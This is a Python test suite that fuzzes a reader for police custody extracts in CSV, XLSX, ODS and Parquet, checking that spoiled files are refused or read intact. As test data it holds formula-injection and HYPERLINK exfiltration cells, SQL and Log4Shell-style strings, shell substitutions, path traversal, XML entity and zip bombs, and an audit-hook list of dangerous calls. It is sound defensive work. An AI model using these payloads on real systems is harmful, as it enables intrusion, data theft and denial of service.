"""Thousands of spoiled files and rows: each has a verdict, and no verdict has a value in it.

A verdict is a refusal in one sentence, or a frame that holds what an independent reader finds in
the file, no row more or less. Meanwhile nothing is started, connected to or written.
"""

from __future__ import annotations

import codecs
import csv
import io
import os
import random
import subprocess
import sys
import traceback
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import polars as pl
import pytest
import spreadsheets
from spreadsheets import relations, sheet_xml, xlsx_parts, zipped

from schemas.contract import validate_extract
from schemas.errors import ExtractRejected
from schemas.extract import read_table
from schemas.mapping import SystemMapping, own_layout
from schemas.reading import archive
from schemas.tables import find_table

CANARY = "Zebediah"
CUSTODY = find_table("police", "custody")
NAMES = ["custody_ref", "forename", "surname", "dob", "arrest_date"]
SHARED = frozenset(NAMES)
ROWS = [[f"CU{at:04d}", CANARY, f"Quill{at}", "1980-02-03", "2024-01-05"] for at in range(1, 9)]
GRID = [NAMES, *ROWS]
OWN = own_layout("police")
Made = tuple[str, bytes]


def text(rows: list[list[str]] = ROWS, delimiter: str = ",", end: str = "\n") -> str:
    made = io.StringIO(newline="")
    csv.writer(made, delimiter=delimiter, lineterminator=end).writerows([NAMES, *rows])
    return made.getvalue()


GOOD = text().encode()
GOOD_XLSX = spreadsheets.xlsx({"custody": GRID})
GOOD_ODS = spreadsheets.ods({"custody": GRID})


def good_parquet() -> bytes:
    made = io.BytesIO()
    pl.DataFrame(ROWS, schema=NAMES, orient="row").write_parquet(made, use_pyarrow=True)
    return made.getvalue()


GOOD_PARQUET = good_parquet()


def spoiled_bytes(name: str, good: bytes, how_many: int) -> Iterator[Made]:
    """Cuts, flips, doublings and insertions, the same on every run."""
    dice = random.Random(name)
    for number in range(how_many):
        at = dice.randrange(len(good))
        until = min(len(good), at + dice.randrange(1, 40))
        kind = number % 6
        if kind == 0:
            yield f"{name} cut {number}", good[:at]
        elif kind == 1:
            yield f"{name} flip {number}", good[:at] + bytes([dice.randrange(256)]) + good[at + 1 :]
        elif kind == 2:
            yield f"{name} lost {number}", good[:at] + good[until:]
        elif kind == 3:
            yield f"{name} twice {number}", good[:until] + good[at:]
        elif kind == 4:
            yield f"{name} noise {number}", good[:at] + dice.randbytes(7) + good[at:]
        else:
            marks = dice.choice([b'"', b"\x00", b"\n", b"\r", b",", b";", b"\xff\xfe", b"\x1a"])
            yield f"{name} mark {number}", good[:at] + marks + good[at:]


ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "latin-1", "cp037", "cp850",
             "mac-roman", "utf-7", "shift_jis", "gb18030", "koi8-r", "utf-8-sig"]  # fmt: skip


def spoiled_text() -> Iterator[Made]:
    accented = text([[*row[:1], "Zebediah Zoë", *row[2:]] for row in ROWS])
    for encoding in ENCODINGS:
        for delimiter in (",", ";", "\t", "|", ":", " "):
            for end in ("\n", "\r\n", "\r", "\x85", "\u2028"):
                made = accented.replace(",", delimiter).replace("\n", end)
                with_end = made.encode(encoding, errors="replace")
                yield f"{encoding} {delimiter!r} {end!r}", with_end
    for mark in (codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, codecs.BOM_UTF32_LE):
        for again in (1, 2):
            yield f"mark {mark!r} {again}", mark * again + GOOD
    for name in NAMES:
        for other in (*NAMES, "", " ", "\x00", CANARY, "=1+1", name.upper(), f" {name} "):
            yield f"header {name} {other!r}", GOOD.replace(name.encode(), other.encode(), 1)
    for cell in CELLS:
        row = [["CU9999", cell, "Quill", "1980-02-03", "2024-01-05"]]
        yield f"cell {cell[:20]!r}", text([*ROWS, *row]).encode("utf-8", "surrogatepass")
        raw = ",".join(row[0]) + "\n"
        yield f"raw cell {cell[:20]!r}", GOOD + raw.encode("utf-8", "surrogatepass")


CELLS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A1", '=HYPERLINK("http://x/"&A1)', "\t=1",
    "%0A", "'; DROP TABLE custody; --", "<script>", "${jndi:ldap://x}", "{{7*7}}", "$(reboot)",
    "`reboot`", "../../etc/passwd", "\\\\host\\share", "a\nb", "a\r\nb", "a\rb", '"', '""', 'a"b',
    "a,b", "\x00", "\x01", "\x1b[31m", "\x7f", "\x85", "\u200b", "\u202e", "\ufeff", "\ufffd",
    "\U0001f600", "e\u0301" * 50, "\ud800", " " * 100, "x" * 32_767, "x" * 32_768, "x" * 1_000_000,
    "NULL", "nan", "inf", "1e999", "0x10", "true", "None", "#REF!", "1,5", "1/2", "\u0661",
]  # fmt: skip


def with_part(name: str, content: str | bytes, good: dict | None = None) -> bytes:
    parts = dict(xlsx_parts({"custody": GRID}) if good is None else good)
    parts[name] = content
    return zipped(parts)


def cell(inner: str) -> bytes:
    """A workbook whose ninth row has one cell of that markup."""
    parts = xlsx_parts({"custody": GRID})
    sheet = str(parts["xl/worksheets/sheet1.xml"])
    inner = f'<row r="10">{inner}</row></sheetData>'
    return with_part("xl/worksheets/sheet1.xml", sheet.replace("</sheetData>", inner), parts)


DOCTYPE = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUT = ("oleObject", "file:///etc/passwd", "External")


def lying(info: zipfile.ZipInfo, good: bytes) -> bytes:
    """The archive with the size of one part said to be less than it is."""
    true = info.file_size.to_bytes(4, "little")
    return good.replace(info.CRC.to_bytes(4, "little") + info.compress_size.to_bytes(4, "little")
                        + true, info.CRC.to_bytes(4, "little")
                        + info.compress_size.to_bytes(4, "little") + b"\x10\0\0\0")  # fmt: skip


def refused_workbooks() -> dict[str, tuple[bytes, str]]:
    """Workbooks that must be refused, each with words of the sentence."""
    sheet = "xl/worksheets/sheet1.xml"
    parts = xlsx_parts({"custody": GRID})
    good = str(parts[sheet])
    shared = str(parts["xl/sharedStrings.xml"])
    with zipfile.ZipFile(io.BytesIO(GOOD_XLSX)) as archive:
        lied = lying(archive.getinfo(sheet), GOOD_XLSX)
        encrypted = bytearray(GOOD_XLSX)
        encrypted[archive.start_dir + 8] |= 1
    twice = io.BytesIO(GOOD_XLSX)
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(twice, "a") as archive:
        archive.writestr(sheet, good)
    long = with_part("xl/sharedStrings.xml", shared.replace(CANARY, "x" * 40_000, 1), parts)
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    types = str(parts["[Content_Types].xml"])
    book = str(parts["xl/workbook.xml"])
    linked = {"rId9": OUT}
    found = {
        "macros": (with_part("xl/vbaProject.bin", b"\xd0\xcf"), "macros"),
        "macros in capitals": (with_part("XL/VBAPROJECT.BIN", b"\xd0\xcf"), "macros"),
        "old macro sheets": (with_part("xl/macrosheets/sheet1.xml", good), "macros"),
        "macro type": (with_part("[Content_Types].xml", types.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", macro)),
            "macros"),
        "controls": (with_part("xl/activeX/activeX1.xml", "<x/>"), "controls"),
        "external book": (with_part("xl/externalLinks/externalLink1.xml", "<x/>"), "links"),
        "connections": (with_part("xl/connections.xml", "<x/>"), "links"),
        "query": (with_part("xl/queryTables/queryTable1.xml", "<x/>"), "links"),
        "external relation": (with_part("xl/worksheets/_rels/sheet1.xml.rels", relations(linked)),
                              "links"),
        "external image": (with_part("xl/drawings/_rels/d.xml.rels", relations(linked)), "links"),
        "embedded file": (with_part("xl/embeddings/oleObject1.bin", b"MZ"), "embedded"),
        "formula": (cell('<c r="A10"><f>1+1</f><v>2</v></c>'), "formulas"),
        "formula without value": (cell('<c r="A10"><f>NOW()</f></c>'), "formulas"),
        "formula that runs": (cell("<c r=\"A10\"><f>cmd|'/c calc'!A1</f><v>0</v></c>"), "formulas"),
        "shared formula": (cell('<c r="A10"><f t="shared" si="0"/><v>2</v></c>'), "formulas"),
        "formula in another namespace": (cell(
            '<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="A10">'
            "<x:f>1</x:f></x:c>"), "formulas"),
        "formula in UTF-16": (with_part(sheet, sheet_xml(
            '<row r="1"><c r="A1"><f>1</f></c></row>').replace("UTF-8", "UTF-16").encode("utf-16")),
            "formulas"),
        "error": (cell('<c r="A10" t="e"><v>#REF!</v></c>'), "cells in error"),
        "entities": (with_part(sheet, good.replace("?>", "?>" + DOCTYPE)), "XML of a kind"),
        "entities in strings": (with_part("xl/sharedStrings.xml",
                                          shared.replace("?>", "?>" + DOCTYPE)), "XML of a kind"),
        "entities in relations": (with_part("_rels/.rels", DOCTYPE + "<x/>"), "XML of a kind"),
        "far corner": (cell('<c r="XFD1048576"><v>1</v></c>'), "more than is read"),
        "further than any corner": (cell('<c r="ZZZZZ1"><v>1</v></c>'), "more than is read"),
        "far row": (cell('<c r="A4294967295"><v>1</v></c>'), "more than is read"),
        "long value": (long, "more than 32,767"),
        "size that is a lie": (lied, "more than it says"),
        "password": (bytes(encrypted), "password"),
        "part twice": (twice.getvalue(), "a part twice"),
        "no sheet part": (zipped({k: v for k, v in parts.items() if k != sheet}), "sheets"),
        "no relations": (zipped({k: v for k, v in parts.items() if "workbook.xml.rels" not in k}),
                         "damaged"),
        "two sheets": (spreadsheets.xlsx({"Sheet1": GRID, CANARY: GRID}), "2 sheets"),
        "sheet named twice over": (spreadsheets.xlsx({"custody": GRID, "CUSTODY": GRID}),
                                   "2 could be"),
        "blank sheet": (spreadsheets.xlsx({"custody": []}), "no header"),
        "header alone": (spreadsheets.xlsx({"custody": [NAMES]}), "no rows"),
        "no header": (spreadsheets.xlsx({"custody": ROWS}), "lacks"),
        "header twice": (spreadsheets.xlsx({"custody": [[*NAMES, "dob"], *[[*r, "x"] for r in ROWS]
                                            ]}), "twice"),
        "values without a name": (spreadsheets.xlsx({"custody": [NAMES, *[[*r, "x", "y"]
                                                    for r in ROWS]]}), "twice"),
        "binary workbook": (zipped({"xl/workbook.bin": b"x"}), "no .xlsx or .ods"),
        "word document": (zipped({"word/document.xml": "<x/>"}), "no .xlsx or .ods"),
        "archive of the text": (zipped({f"{CANARY}.csv": GOOD}), "no .xlsx or .ods"),
        "path that climbs": (zipped({"../../x": GOOD}), "no .xlsx or .ods"),
        "many parts": (zipped({f"p{at}": b"" for at in range(2_001)}, zipfile.ZIP_STORED),
                       "more than is read"),
        "unusual packing": (zipped(parts, zipfile.ZIP_BZIP2), "unusual"),
        "sheet that is elsewhere": (with_part("xl/_rels/workbook.xml.rels", relations(
            {"rId1": ("worksheet", "../../../etc/passwd", "")})), "sheets"),
        "workbook that is no XML": (with_part("xl/workbook.xml", CANARY), "damaged"),
        "sheet that is no XML": (with_part(sheet, CANARY), "damaged"),
        "sheet without an id": (with_part("xl/workbook.xml", book.replace('r:id="rId1"', "")),
                                "sheets"),
        "old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + GOOD_XLSX, "old Excel"),
    }  # fmt: skip
    return found | refused_documents()


def ods_table(rows: str) -> bytes:
    name = '<table:table table:name="custody">'
    return zipped(spreadsheets.ods_of(f"{name}{rows}</table:table>"))


def refused_documents() -> dict[str, tuple[bytes, str]]:
    """The same of OpenDocument spreadsheets."""
    one = '<table:table-cell office:value-type="string"{}><text:p>{}</text:p></table:table-cell>'
    row = "<table:table-row{}>{}</table:table-row>"
    parts = spreadsheets.ods_parts({"custody": GRID})
    content = str(parts["content.xml"])
    many = ' table:number-rows-repeated="1048576"'
    wide = ' table:number-columns-repeated="16384"'
    manifest = '<m xmlns:a="x"><a:encryption-data/></m>'
    return {
        "ods macros": (with_part("Basic/Standard/Module1.xml", "<x/>", parts), "macros"),
        "ods scripts": (with_part("Scripts/python/x.py", "x", parts), "macros"),
        "ods password": (with_part("META-INF/manifest.xml", manifest, parts), "password"),
        "ods formula": (ods_table(row.format("", one.format(' table:formula="of:=1"', "1"))),
                        "formulas"),
        "ods link": (ods_table(row.format("", one.format("", '<text:a xlink:href="http://x">y'
                                                             "</text:a>"))), "links"),
        "ods source": (ods_table('<table:table-source xlink:href="#x"/>'), "links"),
        "ods dde": (ods_table('<office:dde-source/>'), "links"),
        "ods event": (ods_table("<office:event-listener/>"), "links"),
        "ods entities": (with_part("content.xml", content.replace("?>", "?>" + DOCTYPE), parts),
                         "XML of a kind"),
        "ods repeated rows and cells": (ods_table(row.format(many, one.format(wide, "x"))),
                                        "more than is read"),
        "ods far cell": (ods_table(row.format(many, "") + row.format("", one.format(wide, "x"))),
                         "more than is read"),
        "ods repeated text": (ods_table(row.format(many, one.format("", "x" * 30_000))),
                              "more than is read"),
        "ods spaces": (ods_table(row.format("", one.format("", '<text:s text:c="2000000000"/>'))),
                       "more than 32,767"),
        "ods number that is none": (ods_table(row.format(' table:number-rows-repeated="x"', "")),
                                    "damaged"),
        "ods inside itself": (ods_table('<table:table table:name="x"/>'), "inside a table"),
        "ods two sheets": (spreadsheets.ods({"a": GRID, "b": GRID}), "2 sheets"),
    }  # fmt: skip


def refused_parquet() -> dict[str, tuple[bytes, str]]:
    """Parquet files that must be refused."""
    import pyarrow as pa
    from pyarrow import parquet

    def made(**columns: object) -> bytes:
        out = io.BytesIO()
        parquet.write_table(pa.table({**dict(zip(NAMES, [["x"] * 3] * 5, strict=True)), **columns}),
                            out)  # fmt: skip
        return out.getvalue()

    def repeated(count: int) -> bytes:
        out = io.BytesIO()
        values = pa.DictionaryArray.from_arrays(pa.array([0] * count, pa.int32()), ["x" * 30_000])
        parquet.write_table(pa.table(dict.fromkeys(NAMES, values)), out)
        return out.getvalue()

    return {
        "parquet list": (made(extra=[[1], [2], [3]]), "columns of a kind"),
        "parquet struct": (made(extra=[{"a": 1}] * 3), "columns of a kind"),
        "parquet bytes": (made(extra=[b"x"] * 3), "columns of a kind"),
        "parquet twice": (made(DOB=["x"] * 3), "twice"),
        "parquet long": (made(dob=["x" * 40_000] * 3), "more than 32,767"),
        "parquet without a column": (parquet_without(), "lacks dob"),
        "parquet of nobody": (parquet_of_nobody(), "no rows"),
        "parquet bomb": (repeated(1_000_000), "unpacks to more"),
        "parquet encrypted": (b"PAR1" + b"x" * 100 + b"PARE", "damaged or encrypted"),
        "parquet stub": (b"PAR1", "damaged or encrypted"),
    }


def parquet_without() -> bytes:
    made = io.BytesIO()
    pl.DataFrame(ROWS, schema=NAMES, orient="row").drop("dob").write_parquet(made)
    return made.getvalue()


def parquet_of_nobody() -> bytes:
    made = io.BytesIO()
    pl.DataFrame(schema=dict.fromkeys(NAMES, pl.String)).write_parquet(made)
    return made.getvalue()


WATCHED = ("os.exec", "os.fork", "os.posix_spawn", "os.putenv", "os.remove", "os.rename",
           "os.spawn", "os.startfile", "os.system", "pty.spawn", "shutil", "socket",
           "subprocess.Popen", "urllib", "webbrowser", "exec", "pickle.find_class",
           "ctypes.dlopen", "import")  # fmt: skip


class Watch:
    """Notes what reading a file must never do. An audit hook cannot be removed, only silenced."""

    def __init__(self) -> None:
        self.on = False
        self.seen: list[str] = []
        sys.addaudithook(self.hear)

    def hear(self, event: str, details: tuple) -> None:
        if not self.on:
            return
        if (
            event == "open" and isinstance(details[1], str) and set(details[1]) & set("wax+")
        ) or event.startswith(WATCHED):
            self.seen.append(event)


@pytest.fixture(scope="module")
def watch(tmp_path_factory) -> Watch:
    folder = tmp_path_factory.mktemp("first")
    read_table_of(GOOD_XLSX, folder)  # What is imported on first use is imported now.
    read_table_of(GOOD_PARQUET, folder)
    for encoding in ("utf-8", "utf-16"):
        read_table_of(text().encode(encoding), folder)
    return Watch()


def read_table_of(
    content: bytes, folder: Path, mapping: SystemMapping | None = OWN
) -> pl.DataFrame:
    path = folder / "malformed"
    path.write_bytes(content)
    try:
        return read_table(path, CUSTODY, mapping=mapping, columns=SHARED)
    finally:
        path.unlink()


def verdict(
    content: bytes, folder: Path, watch: Watch, mapping: SystemMapping | None = OWN
) -> pl.DataFrame | ExtractRejected:
    """The frame or the refusal, once nothing is wrong with either."""
    path = folder / "malformed"
    path.write_bytes(content)
    watch.seen.clear()
    watch.on = True
    try:
        read = read_table(path, CUSTODY, mapping=mapping, columns=SHARED)
    except ExtractRejected as refused:
        watch.on = False
        said = "".join(traceback.format_exception(refused)) + repr(refused.__dict__)
        assert CANARY.lower() not in said.lower() and "quill" not in said.lower()
        assert refused.__context__ is None and refused.__cause__ is None
        assert refused.problem.startswith("The police custody file ")
        assert refused.problem.endswith(".") and refused.remedy.endswith(".")
        return refused
    finally:
        watch.on = False
        assert watch.seen == []
        path.unlink()
    return read


def independently(content: bytes, delimiter: str) -> list[list[str | None]]:
    """The data rows as Python's own reader has them."""
    as_text = content.decode("utf-16" if content[:2] in (b"\xff\xfe", b"\xfe\xff") else "utf-8-sig")
    rows = list(csv.reader(io.StringIO(as_text, newline=""), delimiter=delimiter))[1:]
    while rows and not any(field.strip() for field in rows[-1]):
        rows.pop()
    return [[field or None for field in row] for row in rows]


def check_nothing_lost(content: bytes, read: pl.DataFrame) -> None:
    """What was read is what an independent reader finds, whatever it was parted by."""
    found = [rows for d in ",;\t|" if (rows := independently(content, d)) and len(rows[0]) > 1]
    kept = [[cell.strip() or None if cell else None for cell in row] for row in read.rows()]
    assert any(
        len(rows) == read.height and all(
            {c.strip() for c in theirs if c and c.strip()} >= {c for c in ours if c}
            for theirs, ours in zip(rows, kept, strict=True))
        for rows in found
    )  # fmt: skip


FAMILIES: dict[str, Callable[[], Iterator[Made]]] = {
    "text": spoiled_text,
    "bytes of text": lambda: spoiled_bytes("text", GOOD, 700),
    "bytes of UTF-16": lambda: spoiled_bytes("utf-16", text().encode("utf-16"), 200),
}
SHEETS = {"xlsx": GOOD_XLSX, "ods": GOOD_ODS, "parquet": GOOD_PARQUET}
PER_SHEET = {"xlsx": 400, "ods": 300, "parquet": 300}


@pytest.mark.parametrize("family", FAMILIES)
def test_spoiled_text_is_refused_or_read_whole(family, tmp_path, watch, capfd):
    refused = accepted = 0
    for name, content in FAMILIES[family]():
        found = verdict(content, tmp_path, watch)
        strictly = verdict(content, tmp_path, watch, mapping=None)
        if isinstance(found, ExtractRejected):
            refused += 1
            assert isinstance(strictly, ExtractRejected), name
        else:
            accepted += 1
            check_nothing_lost(content, found)
    assert refused > accepted / 10 and accepted > 10
    assert capfd.readouterr() == ("", "")


@pytest.mark.parametrize("kind", SHEETS)
def test_a_spoiled_spreadsheet_is_refused_or_read_whole(kind, tmp_path, watch, capfd):
    whole = verdict(SHEETS[kind], tmp_path, watch)
    assert isinstance(whole, pl.DataFrame) and whole.rows() == [tuple(row) for row in ROWS]
    refused = 0
    for name, content in spoiled_bytes(kind, SHEETS[kind], PER_SHEET[kind]):
        found = verdict(content, tmp_path, watch)
        if isinstance(found, ExtractRejected):
            refused += 1
        elif kind == "parquet":
            # A page carries no checksum: its values may be other values, but no row is lost.
            assert found.height == len(ROWS), name
        else:
            assert found.equals(whole), name
    assert refused > PER_SHEET[kind] / 2
    assert capfd.readouterr() == ("", "")


REFUSED = refused_workbooks()


@pytest.mark.parametrize("name", REFUSED)
def test_a_workbook_with_something_in_it_is_refused_and_said_why(name, tmp_path, watch, capfd):
    content, words = REFUSED[name]
    found = verdict(content, tmp_path, watch)
    assert isinstance(found, ExtractRejected)
    assert words in found.problem
    assert capfd.readouterr() == ("", "")


def test_a_spoiled_parquet_file_is_refused_and_said_why(tmp_path, watch, capfd):
    for name, (content, words) in refused_parquet().items():
        found = verdict(content, tmp_path, watch)
        assert isinstance(found, ExtractRejected), name
        assert words in found.problem, name
    assert capfd.readouterr() == ("", "")


def test_a_shared_string_is_counted_as_often_as_it_is_repeated(tmp_path, watch, monkeypatch):
    monkeypatch.setattr(archive, "MAX_TEXT", 60_000)
    long = "x" * 10_000
    content = spreadsheets.xlsx({"custody": [*GRID, [f"CU{at}" for at in range(5)], [long]]})
    assert isinstance(verdict(content, tmp_path, watch), pl.DataFrame)
    repeated = "".join(f'<c r="{x}10" t="s"><v>6</v></c>' for x in "ABCDE")
    parts = xlsx_parts({"custody": [[*NAMES], [long, "a", "b", "c", "d"]]})
    parts["xl/worksheets/sheet1.xml"] = str(parts["xl/worksheets/sheet1.xml"]).replace(
        "</sheetData>", f'<row r="10">{repeated.replace("<v>6", "<v>5")}</row><row r="11">'
        f'{repeated.replace("10", "11").replace("<v>6", "<v>5")}</row></sheetData>')  # fmt: skip
    found = verdict(zipped(parts), tmp_path, watch)
    assert isinstance(found, ExtractRejected) and "more than is read" in found.problem


BOMBS = """
import sys
sys.path[:0] = {paths!r}
import test_malformed as made
from pathlib import Path
def highest():
    # What the system calls maxrss is the parent's where that was more.
    return int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0])
folder = Path({folder!r})
watch = made.Watch()
made.read_table_of(made.GOOD_XLSX, folder)
made.read_table_of(made.GOOD_PARQUET, folder)
before = highest()
for path in sorted(folder.glob("bomb*")):
    found = made.verdict(path.read_bytes(), folder, watch)
    assert isinstance(found, made.ExtractRejected), path.name
print((highest() - before) // 1024)
"""


def test_a_bomb_takes_no_memory(tmp_path):
    """Each would unpack to gigabytes, or to a grid of billions of cells."""
    zeros = zipped({**xlsx_parts({"custody": GRID}), "xl/media/x.bin": b"\0" * (64 * 1024**2)})
    declared = bytearray(zeros)
    bombs = {name: content for name, (content, words) in REFUSED.items() if "more than" in words}
    bombs |= {name: content for name, (content, _) in refused_parquet().items() if "bomb" in name}
    bombs["declared"] = bytes(declared)
    with zipfile.ZipFile(io.BytesIO(zeros)) as archive:
        bombs["declared"] = lying(archive.getinfo("xl/media/x.bin"), zeros)
    for at, content in enumerate(bombs.values()):
        (tmp_path / f"bomb{at}").write_bytes(content)
    here = Path(__file__)
    paths = [str(here.parent), str(here.parents[1] / "support"), *filter(None, sys.path)]
    done = subprocess.run(
        [sys.executable, "-c", BOMBS.format(paths=paths, folder=str(tmp_path))],
        capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) < 400, "mebibytes"


DATES = ["2024-01-05", "05/01/2024", "01/05/2024", "5 Jan 2024", "2024-13-01", "2024-02-30",
         "0000-00-00", "9999-12-31", "20240105", "45296", "2024-01-05T00:00:00", "yesterday",
         "1900-01-01", "", "2024-1-5", "-2024-01-05", "24-01-05"]  # fmt: skip


def malformed_rows() -> list[list[str | None]]:
    """Rows that are each wrong, or odd, in one place."""
    cells = [cell for cell in CELLS if len(cell) < 40_000 and "\ud800" not in cell]
    odd = [*cells, *DATES, *(f"{CANARY}{cell}" for cell in cells), None]
    rows: list[list[str | None]] = []
    for column in range(len(NAMES)):
        for value in odd:
            for again in range(2):
                row: list[str | None] = [f"CU{len(rows):06d}", CANARY, "Quill", *DATES[:1] * 2]
                row[column] = value if not again else f"{value} "
                rows.append(row)
    return rows


def test_every_malformed_row_is_kept_or_quarantined_and_none_is_quoted():
    rows = malformed_rows()
    good = [[f"G{at}", CANARY, "Quill", "1980-02-03", "2024-01-05"] for at in range(len(rows) * 2)]
    frame = pl.DataFrame([*rows, *good], schema=dict.fromkeys(NAMES, pl.String), orient="row")
    tests = pl.DataFrame(schema=dict.fromkeys(find_table("police", "drug_test").columns, pl.String))
    found = validate_extract("police", {"custody": frame, "drug_test": tests})
    kept = found.frames["custody"].height
    assert kept + found.quarantined["custody"] + found.withheld["custody"] == frame.height
    assert kept > len(good) and found.quarantined["custody"] > 100
    assert found.quarantine["row"].is_between(1, frame.height).all()
    for reported in (found.quarantine, found.noted):
        assert CANARY.lower() not in reported.write_csv().lower()


def test_there_are_at_least_two_thousand():
    files = sum(sum(1 for _ in make()) for make in FAMILIES.values())
    files += sum(PER_SHEET.values()) + len(REFUSED) + len(refused_parquet())
    assert files >= 2_000
    assert files + len(malformed_rows()) >= 3_000
